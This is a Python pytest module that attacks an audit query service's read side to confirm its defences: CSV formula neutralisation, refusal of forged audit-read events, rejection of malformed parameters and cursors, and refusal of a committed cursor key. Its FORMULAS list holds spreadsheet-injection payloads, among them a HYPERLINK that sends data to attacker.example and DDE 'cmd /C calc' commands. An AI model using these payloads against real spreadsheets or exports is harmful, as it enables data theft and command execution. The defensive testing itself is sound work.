"""The read side attacked as deployed: `knative/base` run by the local runner, real data.

Ingest (tokens on, with a deliberately permissive policy for one emitter), the
writer and the query service run from the manifests; the query service reads as
its read-only role and audits every read through Kafka. The attacks:

- spreadsheet formulas stored through ingest and exported as CSV: every cell is
  compared with what a spreadsheet would do with it, while the JSON lines stay
  byte for byte what the table holds;
- an emitter allowed every source recording "who read what" in an investigator's
  name, in every spelling and mode, with and without tokens;
- parameters, paths and cursors that used to reach `int()` or SQL: superscript
  and other scripts' digits, NUL, lone surrogates, trailing newlines, signed
  cursors with payloads the service never makes; then a fuzz of the whole
  surface, where no answer may be a 5xx;
- the cursor key committed in knative/base/query-secret.yaml: the service will
  not start with it, and a cursor signed with it is refused.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from urllib.parse import quote, quote_from_bytes

import pg8000.native
import pytest
import yaml
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from ingest_support import end_offsets, request
from openg2p_audit import query
from openg2p_audit.devservices import LocalFunction
from openg2p_audit.devservices.issuer import LocalIssuer
from openg2p_audit.eventing.runner import Runner
from openg2p_audit.topics import ensure_topics
from pipeline_support import BASE, INGEST, audit_event, module_manifests, now_z, wait_stored
from query_support import months_back, reader_role, url_with, wait_rows

QUERY = "audit-query"
EMITTER = "wide-open-service"  # the policy below lets it emit under any source
POLICY = yaml.safe_dump({"callers": {EMITTER: {"sources": ["*"]}}})
STRUCTURED = {"Content-Type": "application/cloudevents+json"}
MARK = f"formula-{uuid.uuid4().hex[:6]}"  # the resource type of this module's formula events
PLACEHOLDER = yaml.safe_load((BASE / "query-secret.yaml").read_text())["stringData"][
    "QUERY_CURSOR_SECRET"
]

# Values that spreadsheets (Excel, LibreOffice Calc, Google Sheets) evaluate as formulas when
# they open a CSV, or would after trimming leading blanks on import.
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "  \t@SUM(1)",
]
HARMLESS = ["plain", "a, b", 'say "hi"', "x=1", "1-2", "'already quoted", ""]


def _spreadsheet_formula(cell: str) -> bool:
    """Whether a spreadsheet opening the CSV would evaluate this cell: a formula sign first,
    or a tab or carriage return first (Excel drops them), or a formula sign after blanks
    (an import that trims cells). An apostrophe first makes any cell text."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") or cell.lstrip(" \t\r\n")[:1] in (
        "=", "+", "-", "@",
    )  # fmt: skip


@pytest.fixture(scope="module")
def reader(settings):
    return reader_role(settings, f"audit_query_{uuid.uuid4().hex[:8]}")


@pytest.fixture(scope="module")
def pipeline(settings, reader, tmp_path_factory):
    ensure_topics(settings)
    workdir = tmp_path_factory.mktemp("query-attacks")
    manifests = module_manifests(
        settings, workdir / "manifests", env={INGEST: {"INGEST_SOURCE_POLICY": POLICY}},
        ingest_auth=True,
    )  # fmt: skip
    runner = Runner(
        manifests, settings, workdir=workdir, schedule_pings=False, commit_interval=0.5,
        issuer=LocalIssuer(), service_env={QUERY: {"DATABASE_URL": reader.database_url}},
    )  # fmt: skip
    runner.start()
    runner.wait_ready(90)
    yield runner
    runner.stop()


@pytest.fixture(scope="module")
def base(pipeline) -> str:
    return pipeline.service_url(QUERY)


def _investigator(pipeline, *roles: str, subject: str = "investigator-1") -> dict[str, str]:
    token = pipeline.issuer.mint(subject, roles or ("audit.read",))
    return {"Authorization": f"Bearer {token}"}


def _emitter(pipeline) -> dict[str, str]:
    token = pipeline.issuer.mint(f"service-account-{EMITTER}", (), azp=EMITTER)
    return {"Authorization": f"Bearer {token}"}


def _get(base: str, path: str, params=None, headers=None):
    url = url_with(base, path, params or {})
    return request(base, url.removeprefix(base), method="GET", headers=headers or {})


def _window() -> dict[str, str]:
    return {"from": months_back(1).isoformat(), "to": months_back(-1).isoformat()}


# ------------------------------------------------------------------ 8. spreadsheet formulas


@pytest.fixture(scope="module")
def formula_rows(pipeline, settings) -> list[dict]:
    """One event per value, sent through ingest: the value as actor, resource, subject and
    reason, and formulas as ids too."""
    events = []
    for i, value in enumerate(FORMULAS + [h for h in HARMLESS if h]):
        events.append(audit_event(
            f"{value}|{i}-{uuid.uuid4().hex[:8]}" if value in FORMULAS else f"ok-{i}-{uuid.uuid4()}",  # noqa: E501
            source="/openg2p/registry", subject=value,
            data={"actor": {"type": "user", "id": value}, "action": "view", "outcome": "success",
                  "resource": {"type": MARK, "id": value}, "reason": value or None},
        ))  # fmt: skip
    reply = request(
        pipeline.service_url(INGEST), "/", events,
        {"Content-Type": "application/cloudevents-batch+json", **_emitter(pipeline)},
    )  # fmt: skip
    assert reply.status == 202, reply.body
    wait_stored(settings, [e["id"] for e in events])
    return events


def _owner_rows(settings, columns: str, order: str = "occurred_at DESC, id DESC") -> list:
    conn = pg8000.native.Connection(**settings.pg_connect_kwargs)
    try:
        return conn.run(f"SELECT {columns} FROM audit_events WHERE resource_type = :m ORDER BY "
                        f"{order}", m=MARK)  # fmt: skip
    finally:
        conn.close()


def test_no_exported_csv_cell_is_a_formula_to_a_spreadsheet(pipeline, base, settings, formula_rows):
    params = {**_window(), "resource_type": MARK, "format": "csv"}
    reply = _get(base, "/v1/audit/export", params, _investigator(pipeline, "audit.read",
                                                                  "audit.export"))  # fmt: skip
    assert reply.status == 200, reply.body
    header, *table = list(csv.reader(io.StringIO(reply.body.decode(), newline="")))
    assert header == list(query.CSV_COLUMNS)
    assert len(table) == len(formula_rows)
    for line in table:
        for column, cell in zip(header, line, strict=True):
            assert not _spreadsheet_formula(cell), (column, cell)
    # Each cell is the stored text, with an apostrophe in front of those that needed one.
    stored = {r[0]: r for r in _owner_rows(settings, "id, subject, actor_id, resource_id, reason")}
    for line in table:
        cells = dict(zip(header, line, strict=True))
        raw_id = next(i for i in stored if cells["id"] in (i, "'" + i))
        for column, value in zip(("id", "subject", "actor_id", "resource_id", "reason"),
                                 stored[raw_id], strict=True):  # fmt: skip
            want = "" if value is None else value
            if _spreadsheet_formula(want):
                want = "'" + want
            assert cells[column] == want, (column, value)
    neutralised = sum(cell.startswith("'") for line in table for cell in line)
    # Each formula cell (id, subject, actor, resource, reason), and the four of "'already quoted".
    assert neutralised == 5 * len(FORMULAS) + 4


def test_the_json_lines_export_stays_byte_for_byte_the_table(pipeline, base, settings,
                                                            formula_rows):  # fmt: skip
    params = {**_window(), "resource_type": MARK}
    reply = _get(base, "/v1/audit/export", params, _investigator(pipeline, "audit.read",
                                                                  "audit.export"))  # fmt: skip
    assert reply.status == 200
    lines = reply.body.decode().splitlines()
    assert lines == [r[0] for r in _owner_rows(settings, query._JSON_LINE)]
    actors = {json.loads(x)["actor_id"] for x in lines}
    assert set(FORMULAS) <= actors  # as emitted, not neutralised


def test_postgresql_and_python_write_the_same_cells(settings):
    """The CLI writes CSV with `csv_cell`, the service with SQL: the same rule, cell for cell."""
    values = [*FORMULAS, *HARMLESS, None, "=", "-", "\t", "\r\n=1", "ü=1", 'q"=1', "a\n=b"]
    conn = pg8000.native.Connection(**settings.pg_connect_kwargs)
    try:
        for value in values:
            [[cell]] = conn.run(f"SELECT {query._csv_field('CAST(:v AS text)')}", v=value)
            assert cell == query.csv_cell(value), repr(value)
    finally:
        conn.close()


# ------------------------------------------------------------------ 9. forged "who read what"


def _performed(investigator: str, **over) -> dict:
    event = audit_event(
        f"forged-{uuid.uuid4()}", source="/openg2p/audit/query",
        type="org.openg2p.audit.query.performed", subject=None,
        data={"actor": {"type": "user", "id": investigator, "name": investigator},
              "action": "query", "outcome": "success", "resource": {"type": "audit_events"},
              "context": {"endpoint": "/v1/audit/events",
                          "filters": {"resource_id": "BEN-000482"}, "rows": 3}},
    )  # fmt: skip
    event.pop("subject")
    event.update(over)
    return event


FORGERIES = {
    "as-sent-by-the-service": {},
    "exported": {"type": "org.openg2p.audit.query.exported"},
    "upper-case-type": {"type": "ORG.OpenG2P.Audit.Query.performed"},
    "family-without-suffix": {"type": "org.openg2p.audit.query"},
    "services-source-other-type": {"type": "org.openg2p.registry.beneficiary.viewed"},
    "under-the-services-source": {"source": "/openg2p/audit/query/ui"},
    "other-source-reserved-type": {"source": "/openg2p/registry"},
}


@pytest.mark.parametrize("name", sorted(FORGERIES))
def test_no_emitter_may_record_a_read(pipeline, settings, name):
    event = _performed("investigator-7", **FORGERIES[name])
    before = end_offsets(settings.kafka_bootstrap_servers, settings.kafka_events_topic)
    ingest = pipeline.service_url(INGEST)
    reply = request(ingest, "/", event, {**STRUCTURED, **_emitter(pipeline)})
    assert reply.status == 403, reply.body
    [problem] = reply.json["problems"]
    assert problem["reason"] == "forbidden" and "only the query service" in problem["message"]
    assert problem["field"] in ("type", "source")
    # The legacy path and a batch with one good event: refused alike, all or nothing.
    legacy_event = {**event, "id": f"forged-{uuid.uuid4()}"}
    legacy = request(ingest, "/v1/auditmanager/events", legacy_event,
                     {"Content-Type": "application/json", **_emitter(pipeline)})  # fmt: skip
    assert legacy.status == 403
    good = audit_event(source="/openg2p/registry")
    batched = {**event, "id": f"forged-{uuid.uuid4()}"}
    batch_headers = {"Content-Type": "application/cloudevents-batch+json", **_emitter(pipeline)}
    batch = request(ingest, "/", [good, batched], batch_headers)
    assert batch.status == 403 and [p["index"] for p in batch.json["problems"]] == [1]
    assert end_offsets(settings.kafka_bootstrap_servers, settings.kafka_events_topic) == before
    # A later good event lands; nothing forged does.
    after = audit_event(source="/openg2p/registry")
    assert request(ingest, "/", after, {**STRUCTURED, **_emitter(pipeline)}).status == 202
    wait_stored(settings, [after["id"]])
    forged = [event["id"], legacy_event["id"], batched["id"], good["id"]]
    assert wait_rows(settings, "SELECT id FROM audit_events WHERE id = ANY(:ids)", timeout=0,
                     ids=forged) == []  # fmt: skip


def test_the_query_services_own_reads_still_land(pipeline, base, settings):
    subject = f"investigator-{uuid.uuid4().hex[:8]}"
    reply = _get(base, "/v1/audit/events", {**_window(), "limit": "1"},
                 _investigator(pipeline, subject=subject))  # fmt: skip
    assert reply.status == 200
    rows = wait_rows(settings, "SELECT source, type FROM audit_events WHERE actor_id = :a",
                     a=subject)  # fmt: skip
    assert rows == [["/openg2p/audit/query", "org.openg2p.audit.query.performed"]]


def test_without_tokens_ingest_still_refuses_the_family(settings, topics, tmp_path):
    """INGEST_AUTH=disabled (this module's settings) lets anyone emit anything, but not this."""
    assert settings.ingest_auth == "disabled"
    with LocalFunction("ingest", "ingest", settings, tmp_path) as fn:
        reply = request(fn.url, "/", _performed("investigator-7"), STRUCTURED)
        assert reply.status == 403, reply.body
        assert reply.json["problems"][0]["field"] == "type"
        assert request(fn.url, "/", audit_event(), STRUCTURED).status == 202


# ------------------------------------------------------------------ 10. inputs that answered 5xx


def _cursor_key(pipeline) -> str:
    return (pipeline.workdir / "secrets" / f"{QUERY}-cursor-secret").read_text()


def _signed(key: str, payload: bytes) -> str:
    codec = query.CursorCodec(key)
    return query._b64(payload) + "." + query._b64(codec._mac(payload))


BAD_LIMITS = ["²", "٣", "\uff15", "1\n", " 1", "+1", "1.0", "0x10", "1e2", "\x00", "\uff11\uff10"]


@pytest.mark.parametrize("limit", BAD_LIMITS, ids=[repr(x) for x in BAD_LIMITS])
def test_a_limit_is_ascii_digits_only(pipeline, base, limit):
    reply = _get(base, "/v1/audit/events", {**_window(), "limit": limit}, _investigator(pipeline))
    assert reply.status == 400, reply.body
    assert reply.json["parameter"] == "limit"


@pytest.mark.parametrize("name, value", [
    ("from", "2026-01-01T00:00:00Z\n"), ("from", "٢٠٢٦-01-01T00:00:00Z"),
    ("trace_id", "0" * 31 + "1\n"), ("actor_id", "a\x00b"), ("tenant", "\x00"),
])  # fmt: skip
def test_other_texts_that_reached_sql_are_400s(pipeline, base, name, value):
    params = {**_window(), name: value}
    url = "/v1/audit/events?" + "&".join(f"{k}={quote(v, safe='')}" for k, v in params.items())
    reply = request(base, url, method="GET", headers=_investigator(pipeline))
    assert reply.status == 400, reply.body
    assert reply.json["parameter"] == name


def test_a_lone_surrogate_from_the_command_line_is_a_400(settings):
    """argv holds undecodable bytes as lone surrogates, which the driver cannot send."""
    values = {**_window(), "actor_id": b"\xff".decode("utf-8", "surrogateescape")}
    with pytest.raises(query.BadParameter) as bad:
        query.parse_filters(values, settings)
    assert bad.value.parameter == "actor_id" and "UTF-8" in bad.value.message


def test_a_signed_cursor_with_a_payload_never_issued_is_a_400(pipeline, base):
    key = _cursor_key(pipeline)
    assert key != PLACEHOLDER and len(key) == 64
    fingerprint = query.parse_filters(_window(), pipeline.settings).fingerprint()
    import base64

    fp = base64.b64encode(fingerprint).decode()
    payloads = [
        b"{}", b'"x"', b"null", b"[1, 2, 3]", b'["a", "b"]', b"[]", b"\xff\xfe",
        json.dumps(["2026-01-01T00:00:00Z", "x", "/s", 7]).encode(),
        json.dumps(["not a time", "x", "/s", fp]).encode(),
        json.dumps(["2026-01-01T00:00:00Z", "id\u0000", "/s", fp]).encode(),
        json.dumps(["2026-01-01T00:00:00Z", "x", "/s\u0000", fp]).encode(),
        json.dumps(["2026-01-01T00:00:00Z", "x", "/s", "%%%"]).encode(),
        json.dumps(["2026-01-01T00:00:00Z\n", "x", "/s", fp]).encode(),
        json.dumps(["2026-01-01T00:00:00Z", "x", fp]).encode(),
    ]  # fmt: skip
    for payload in payloads:
        params = {**_window(), "cursor": _signed(key, payload)}
        reply = _get(base, "/v1/audit/events", params, _investigator(pipeline))
        assert reply.status == 400, (payload, reply.status, reply.body)
        assert reply.json["parameter"] == "cursor"
    # The same payload shape encode() makes is accepted: the checks refuse only the bad ones.
    good = json.dumps([months_back(0).strftime("%Y-%m-%dT%H:%M:%S.%fZ"), "x", "/s", fp],
                      separators=(",", ":")).encode()  # fmt: skip
    reply = _get(base, "/v1/audit/events", {**_window(), "cursor": _signed(key, good)},
                 _investigator(pipeline))  # fmt: skip
    assert reply.status == 200, reply.body


@pytest.mark.parametrize("path", ["/v1/audit/events/%00", "/v1/audit/events/a%00b",
                                  "/v1/audit/events/" + "x" * 3000])  # fmt: skip
def test_an_event_id_that_cannot_be_stored_is_a_400(pipeline, base, settings, path):
    before = end_offsets(settings.kafka_bootstrap_servers, settings.kafka_events_topic)
    reply = request(base, path, method="GET", headers=_investigator(pipeline))
    assert reply.status == 400, reply.body
    assert reply.json == {"error": "invalid_parameter", "parameter": "id",
                          "message": reply.json["message"]}  # fmt: skip
    page = request(base, path.replace("/v1/audit/events/", "/ui/events/"), method="GET",
                   headers=_investigator(pipeline))  # fmt: skip
    assert page.status == 400 and b"id: " in page.body
    assert end_offsets(settings.kafka_bootstrap_servers, settings.kafka_events_topic) == before


# The whole surface, fuzzed: names and values from the parameters the endpoints take, bytes
# that are not UTF-8, other scripts' digits, NUL and line breaks, on every read path.
_SPECIAL = ["\x00", "²", "٣", "\n", "\r", "%", "+", " ", "*", "'", '"', "\\", "\ufeff", "\u202e",
            "\uff12", "-1", "0", "1001", "9" * 30, "2026-02-30T00:00:00Z", "0000-01-01T00:00:00Z",
            "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59"]  # fmt: skip
_TRICKY = st.sampled_from(_SPECIAL).map(lambda t: t.encode("utf-8", "surrogatepass"))
_VALUE = st.one_of(
    _TRICKY,
    st.lists(st.sampled_from(_SPECIAL), min_size=1, max_size=4).map(lambda p: "".join(p).encode()),
    st.tuples(st.text("abc-_.:", max_size=6), _TRICKY, st.text("xyz", max_size=3)).map(
        lambda t: t[0].encode() + t[1] + t[2].encode()
    ),
    st.binary(max_size=24),
    st.text(max_size=24).map(lambda t: t.encode("utf-8", "surrogatepass")),
    st.integers(-5, 2000).map(lambda n: str(n).encode()),
    st.just(b"x" * 2100),
)
_NAMES = st.sampled_from([*query.PAGE_PARAMS, *query.PAGE_PARAMS[2:], "limit", "limit", "cursor",
                          "format", "offset", "", "limit\x00"])  # fmt: skip
_PATHS = st.sampled_from(["/v1/audit/events", "/v1/audit/events", "/v1/audit/export", "/ui",
                          "/v1/audit/events/", "/v1/audit/events/", "/ui/events/"])  # fmt: skip


@hsettings(max_examples=400, deadline=None, derandomize=True, database=None,
           suppress_health_check=list(HealthCheck))  # fmt: skip
@given(path=_PATHS, pairs=st.lists(st.tuples(_NAMES, _VALUE), min_size=1, max_size=3),
       with_range=st.sampled_from([True, True, True, False]), tail=_VALUE)  # fmt: skip
def test_fuzzed_reads_never_answer_5xx(pipeline, base, path, pairs, with_range, tail):
    headers = _investigator(pipeline, "audit.read", "audit.export")
    items = [(k, v.encode()) for k, v in _window().items()] if with_range else []
    items += [(name, value) for name, value in pairs]
    query_string = "&".join(f"{quote(k, safe='')}={quote_from_bytes(v, safe='')}"
                            for k, v in items)  # fmt: skip
    if path.endswith("/"):
        path += quote_from_bytes(tail, safe="") or "x"
    reply = request(base, f"{path}?{query_string}", method="GET", headers=headers)
    assert reply.status < 500, (path, query_string, reply.status, reply.body[:300])
    assert reply.status in (200, 400, 404), (path, query_string, reply.status)
    if reply.status == 400 and path.startswith("/v1/"):
        assert reply.json["error"] == "invalid_parameter" and isinstance(
            reply.json["parameter"], str
        )


_JSON = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.text(max_size=30)),
    lambda inner: st.one_of(st.lists(inner, max_size=4),
                            st.dictionaries(st.text(max_size=5), inner, max_size=3)),
    max_leaves=8,
)  # fmt: skip


@hsettings(max_examples=150, deadline=None, derandomize=True, database=None,
           suppress_health_check=list(HealthCheck))  # fmt: skip
@given(payload=st.one_of(_JSON.map(lambda v: json.dumps(v).encode()), st.binary(max_size=60)))
def test_fuzzed_signed_cursors_are_400s(pipeline, base, payload):
    params = {**_window(), "cursor": _signed(_cursor_key(pipeline), payload)}
    reply = _get(base, "/v1/audit/events", params, _investigator(pipeline))
    assert reply.status == 400, (payload, reply.status, reply.body[:300])
    assert reply.json["parameter"] == "cursor"


# ------------------------------------------------------------------ 11. committed cursor keys


def test_a_cursor_signed_with_the_committed_key_is_refused(pipeline, base):
    """The runner stands in a generated key for the placeholder; a forger's cursor made with
    the placeholder (it is in every clone) walks nowhere."""
    filters = query.parse_filters(_window(), pipeline.settings)
    forged = query.CursorCodec(PLACEHOLDER).encode(filters, now_z(), "zzzz", "/openg2p/registry")
    reply = _get(base, "/v1/audit/events", {**_window(), "cursor": forged},
                 _investigator(pipeline))  # fmt: skip
    assert reply.status == 400 and reply.json["parameter"] == "cursor"
    path = pipeline.workdir / "secrets" / f"{QUERY}-cursor-secret"
    assert path.stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("secret, says", [
    (PLACEHOLDER, "is the placeholder committed in knative/base/query-secret.yaml"),
    ("change-me-please-to-something-much-longer-than-this", "is a placeholder"),
    ("b" * 40, "fewer than 10 distinct characters"),
])  # fmt: skip
def test_the_query_service_will_not_start_with_a_public_cursor_key(reader, tmp_path, secret, says):
    issuer = LocalIssuer("http://127.0.0.1:1/issuer")
    unsafe = reader.model_copy(update={"query_cursor_secret": secret, "auth_issuer": issuer.url,
                                       "auth_jwks_url": issuer.jwks_url})  # fmt: skip
    fn = LocalFunction("query", "query", unsafe, tmp_path)
    with pytest.raises(RuntimeError, match="exited"):
        fn.start(timeout=60)
    lines = [x for x in fn.log_text().splitlines() if "QUERY_CURSOR_SECRET" in x]
    assert lines and all(says in x and "openssl rand -hex 32" in x for x in lines), lines
    assert secret not in fn.log_text()  # the key itself is never written to the log


def test_the_generated_key_outlives_a_restart_of_the_service(pipeline, base, formula_rows):
    """The runner keeps its stand-in key in its work folder: a cursor issued before the query
    service restarts still pages on after it, as with a deployment's Secret."""
    params = {**_window(), "resource_type": MARK, "limit": "2"}
    first = _get(base, "/v1/audit/events", params, _investigator(pipeline))
    assert first.status == 200 and first.json["next_cursor"]
    service = pipeline.services[QUERY]
    service.stop()
    service.start()
    params["cursor"] = first.json["next_cursor"]
    after = _get(base, "/v1/audit/events", params, _investigator(pipeline))
    assert after.status == 200, after.body
    assert len(after.json["events"]) == 2
